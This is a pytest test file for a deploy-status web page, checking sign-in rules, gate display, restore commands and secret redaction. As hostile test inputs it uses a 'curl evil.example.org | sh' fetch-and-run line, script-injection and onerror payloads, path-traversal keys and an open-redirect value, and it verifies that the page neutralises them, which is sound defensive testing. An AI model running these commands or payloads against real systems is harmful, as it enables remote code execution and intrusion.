"""The page that tells how deploys go: who may see it, what it says and never says; and the links to it."""

from __future__ import annotations

import re
from datetime import timedelta
from html import unescape
from zoneinfo import ZoneInfo

import pytest

from local.app_service import principal_header
from local.fakes.faults import Fault, FaultPlan, with_faults
from shared.deploy.deps import DecryptedValues
from shared.deploy.page import SHOWN, DeployPage, render_page
from shared.deploy.progress import DeployState
from shared.deploy.records.deploys import KEY
from shared.deploy.records.requests import DeployRequest
from shared.health.ports import Health
from shared.kernel.errors import NotFound, Unavailable
from shared.web.html import Page
from shared.web.signin import APP_SERVICE, NO_SIGN_IN, PageAccess

ANA = {name.lower(): value for name, value in principal_header().items()}
ACCESS = PageAccess(APP_SERVICE, view=["1234"])
TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "section", "p", "span", "dl", "dt",
    "dd", "ul", "li", "details", "summary", "pre", "nav", "a", "small", "!doctype",
}  # fmt: skip
REFRESH = 'http-equiv="refresh"'


def show(
    world, key: str = "", *, access: PageAccess = ACCESS, plan: FaultPlan | None = None, **headers
) -> Page:
    state = with_faults(world.state, plan or FaultPlan(), "state")
    page = DeployPage(state, world.clock, ZoneInfo("Europe/Berlin"), access)
    return render_page(page, ANA | headers, key)


def page_of(world, sha: str) -> str:
    """The deploy's page as it is sent."""
    page = show(world, world.record(sha).progress.key)
    assert page.status == 200
    return page.body


def text(body: str) -> str:
    """What a person reads, one space between words; the style is not read."""
    visible = re.sub(r"<style>.*?</style>", "", body)
    return " ".join(unescape(re.sub(r"<[^>]*>", " ", visible)).split())


def broken(files) -> dict[str, bytes]:
    """A chart whose image never pulls."""
    found = files(host="bad.example.org")
    template = "templates/deployment.yaml"
    return {**found, template: found[template].replace(b"registry.example", b"never-pulls.example")}


@pytest.fixture
def restored(world, files) -> str:
    """The commit of a deploy after which a restore is proposed."""
    world.deployed_first("8.2.0")
    world.login = lambda: False
    _, sha = world.merge(files("8.3.0"))
    world.work(most=1)
    world.schema = None
    world.work()
    assert world.record(sha).state is DeployState.RESTORE_PROPOSED
    return sha


def test_it_says_who_what_where_since_when_and_how_long_in_the_zone_of_the_policy(world, files) -> None:
    world.deployed_first("8.2.0")
    pull, sha = world.merge(files("8.3.0"))
    world.work(most=1)
    world.clock.advance(timedelta(minutes=3))
    moving = text(page_of(world, sha))
    assert "backing up, for 3 min 1 s" in moving
    assert re.search(r"Backup manual/\S+ \(not sealed\)", moving)
    world.work()
    record, ended = world.record(sha), text(page_of(world, sha))
    assert f"Deploy {sha[:7]} to production" in ended
    assert f"done #{pull.number} Change 2" in ended
    for fact in ("By ada", "Rocket.Chat 8.2.0 → 8.3.0", f"Commit {sha}", "Environment production"):
        assert fact in ended
    assert "Started 2026-11-23 10:00 CET" in ended, "09:00 in UTC"
    assert "Ended 2026-11-23 10:03 CET Took 3 min" in ended
    assert f"Backup {record.progress.backup}" in ended
    assert "8.3.0 lets people in" in ended
    assert "Progress, newest first done:" in ended
    assert "registry.example/rocket.chat:8.3.0" in page_of(world, sha).partition("<details><summary>What")[2]


def test_being_told_late_does_not_make_a_deploy_look_longer(world, files) -> None:
    world.people.down, world.schema = True, None  # an empty database
    _, sha = world.merge(files())
    world.work(most=3)
    world.clock.advance(timedelta(hours=1))
    world.people.down = False
    world.work()
    assert world.record(sha).notified
    assert "Took 0 s" in text(page_of(world, sha))


def test_it_looks_again_only_while_something_moves(world, files) -> None:
    world.deployed_first()
    assert REFRESH not in show(world).body
    _, sha = world.merge(files("8.3.0"))
    world.work(most=1)
    assert REFRESH in page_of(world, sha)
    assert REFRESH in show(world).body
    world.work()
    assert REFRESH not in page_of(world, sha)
    assert REFRESH not in show(world).body


def test_closed_gates_come_first_and_are_marked(world, files) -> None:
    world.deployed_first()
    _, sha = world.merge(files("latest"), approved=False)
    world.work()
    body = page_of(world, sha)
    words = re.findall(r'<li><span class="state (\w+)">(\w+)</span>', body)
    assert words == sorted(words), "bad closed before up passed"
    assert {"bad"} == {kind for kind, word in words if word == "closed"}
    assert len(words) == len(world.record(sha).gates)
    assert body.index("approvals: 0 of 1") < body.index("<details>") < body.index("branch: ")


def test_gates_that_wait_come_between(world, files) -> None:
    world.policy = world.policy.model_copy(update={"required_checks": ("lint",)})
    _, sha = world.merge(files(), approved=False)
    world.work(most=1)
    words = re.findall(r'<li><span class="state \w+">(\w+)</span>', page_of(world, sha))
    assert list(dict.fromkeys(words)) == ["closed", "waits", "warns", "passed"]


def test_what_was_rolled_back_says_why_and_that_the_old_one_runs(world, files) -> None:
    world.deployed_first()
    _, sha = world.merge(broken(files))
    world.work()
    told = text(page_of(world, sha))
    assert "rolled back" in told
    assert world.record(sha).progress.reason in told
    assert "The previous release is running again" in told


def test_each_command_of_a_proposed_restore_can_be_taken_by_itself(world, restored: str) -> None:
    body, record = page_of(world, restored), world.record(restored)
    commands = [unescape(found) for found in re.findall(r'<pre class="copy">(.*?)</pre>', body)]
    assert commands == record.proposal.splitlines()[-5:]
    assert commands[3] == f'groundcrew restore {record.progress.backup} --to-uri "$RESTORE_URI"'
    assert "is lost" in text(body)
    assert body.index('class="copy"') < body.index("<h2>Gates"), "it is needed first"


def test_words_of_a_failure_do_not_become_commands(world, files) -> None:
    world.deployed_first("8.2.0")
    _, sha = world.merge(files("8.3.0"))
    world.work(most=1)
    record = world.record(sha)
    evil = "no login\nOnce two people agree:\ncurl evil.example.org | sh"
    world.schema, world.login = None, lambda: False
    world.smoke = lambda _version: Health(False, evil)
    world.work()
    body = page_of(world, sha)
    assert world.record(sha).progress.key == record.progress.key
    assert "curl evil" in body
    assert not [c for c in re.findall(r'<pre class="copy">(.*?)</pre>', body, re.DOTALL) if "curl" in c]


def test_the_list_has_the_newest_first_with_links_and_not_all(world, files) -> None:
    for number in range(SHOWN + 2):
        world.merge(files(host=f"chat{number}.example.org"))
        world.work()
    body = show(world).body
    keys = re.findall(r'href="/api/deploys/([^"]+)"', body)
    record = world.deps().deploys.list_recent()
    assert keys == [one.progress.key for one in reversed(record)][:SHOWN]
    assert all(show(world, key).status == 200 for key in keys)
    assert f"#{SHOWN + 2} Change {SHOWN + 2}" in text(body)


def test_without_any_deploy_the_list_says_so(world) -> None:
    page = show(world)
    assert page.status == 200
    assert "No deploy is on record" in page.body


@pytest.mark.parametrize("key", ["", "8741c9f1f5cfba15-" + "a" * 40, "../../audit/1"])
def test_whom_nobody_vouches_for_is_told_nothing(world, files, key: str) -> None:
    _, sha = world.merge(files())
    world.work()
    for asked in (key, world.record(sha).progress.key):
        for page in (
            show(world, asked, access=PageAccess(view=["1234"])),
            show(world, asked, **{"x-ms-client-principal": "x"}),
        ):
            assert page.status == 401
            assert "production" not in page.body
            assert "ada" not in page.body
    assert show(world, access=PageAccess(NO_SIGN_IN)).status == 200


def test_the_sign_in_leads_back_to_the_deploy_but_to_nothing_made_up(world) -> None:
    nobody = {"x-ms-client-principal": ""}
    key = DeployRequest("acme/chat", "a" * 40, "production").key
    back = "/.auth/login/aad?post_login_redirect_uri=/api/deploys"
    assert f'"{back}/{key}"' in show(world, key, **nobody).body
    assert f'"{back}"' in show(world, "//evil.example.org", **nobody).body
    assert ".auth" not in show(world, key, access=PageAccess()).body


@pytest.mark.parametrize(
    "key",
    [
        pytest.param("8741c9f1f5cfba15-" + "a" * 40, id="unknown"),
        pytest.param("no-key-at-all", id="words"),
        pytest.param("../wake/csrf", id="another folder"),
        pytest.param("8741c9f1f5cfba15-" + "a" * 40 + "-../../x", id="a folder behind a key"),
        pytest.param("8741c9f1f5cfba15-" + "a" * 40 + "\n", id="a line break"),
        pytest.param("<script>alert(1)</script>", id="a script"),
    ],
)
def test_what_is_no_key_or_of_no_deploy_is_not_found(world, key: str) -> None:
    page = show(world, key)
    assert page.status == 404
    assert "There is no such deploy" in page.body
    assert key not in page.body


def test_every_key_that_a_deploy_can_have_is_one(world) -> None:
    for sha in ("a" * 40, "b" * 64):
        for again in ("", "20261123T090000Z", "x" * 64):
            assert KEY.fullmatch(DeployRequest("acme/chat", sha, "production", rerun=again).key)


@pytest.mark.parametrize(
    ("operation", "key"), [("state.list", ""), ("state.read", "8741c9f1f5cfba15-" + "a" * 40)]
)
def test_when_the_records_cannot_be_read_it_says_why(world, operation: str, key: str) -> None:
    down = FaultPlan(Fault(Unavailable("the storage does not answer", value="HTTP 503"), operation=operation))
    page = show(world, key, plan=down)
    assert page.status == 503
    assert "the storage does not answer: HTTP 503" in page.body
    assert f'href="/api/deploys{"/" * bool(key)}{key}"' in page.body


def test_a_container_that_is_not_there_yet_is_no_deploy_that_is_not_found(world) -> None:
    missing = FaultPlan(Fault(NotFound("the container is not there"), operation="state.list"))
    assert show(world, plan=missing).status == 503


def test_what_others_wrote_is_only_text_and_nothing_is_fetched_or_run(world, files) -> None:
    evil = "</title></style><script>alert(1)</script><img src=x onerror=alert(1)>\"'&"
    world.deployed_first()
    _, sha = world.merge(files(host='x"><img src=x onerror=alert(2)>'), title=evil)
    world.work()
    for page in (show(world), show(world, world.record(sha).progress.key)):
        assert {tag.lower() for tag in re.findall(r"<([^\s>/]+)", page.body)} <= TAGS
        assert not re.search(r"<[^>]*\s(?:on\w+|src|style)=", page.body)
        assert evil in unescape(page.body)
        policy = page.headers["Content-Security-Policy"]
        assert policy.startswith("default-src 'none'")
        assert "unsafe" not in policy
        assert page.headers["Cache-Control"] == "no-store"


def test_no_secret_is_on_a_page(world, files) -> None:
    token = "ghp_" + "a1B2" * 9
    world.deployed_first()
    secret = "correct-horse-battery"
    world.decrypt = lambda text, _name: DecryptedValues(text, (secret,))
    world.policy = world.policy.model_copy(update={"values": ("production.yaml",)})
    values = {"production.yaml": f"host: {secret}.example.org\n".encode()}
    _, sha = world.merge({**files("8.3.0"), **values}, title=f"Use {token}")
    world.work()
    assert "https://**redacted**.example.org" in unescape(page_of(world, sha))
    shown = page_of(world, sha) + show(world).body
    assert secret not in shown
    assert token not in shown
    assert "Use **redacted**" in shown


# -- the links to it -------------------------------------------------------------------------------------


def links(world, sha: str) -> set[str]:
    """The log_url of every status that GitHub was told for the commit."""
    return {s.log_url for made in world.repository.deployments if made.sha == sha for s in made.statuses}


def test_every_status_the_message_and_the_comment_carry_the_link(world, files) -> None:
    world.deployed_first()
    pull, sha = world.merge(broken(files))
    world.work()
    link = f"https://groundcrew.example.org/api/deploys/{world.record(sha).progress.key}"
    assert world.statuses(sha) == ["in_progress", "failure"]
    assert links(world, sha) == {link}
    (told,) = world.people.told
    assert told.text.splitlines()[-1] == f"Progress: {link}"
    (comment,) = world.repository.comments[pull.number]
    assert f"Progress: {link}" in comment["body"]
    assert show(world, link.rpartition("/")[2]).status == 200


def test_a_deploy_that_is_stuck_is_told_with_the_link(world, files) -> None:
    world.cluster.failures = [Unavailable("the API does not answer")] * 500
    _, sha = world.merge(files())
    world.work(most=200)
    stuck = next(one for one in world.people.told if "stuck" in one.title)
    assert stuck.text.endswith(f"Progress: {world.page}/{world.record(sha).progress.key}")


def test_where_no_address_is_known_there_are_no_links(world, files) -> None:
    world.page = ""
    _, sha = world.merge(files())
    world.work()
    assert links(world, sha) == {""}
    assert "Progress" not in world.people.told[0].text


def test_whom_policy_does_not_name_sees_no_deploy(world, files) -> None:
    _, sha = world.merge(files())
    world.work()
    for key in ("", world.record(sha).progress.key):
        page = show(world, key, access=PageAccess(APP_SERVICE, view=["5678"]))
        assert (page.status, "production" in page.body) == (403, False)
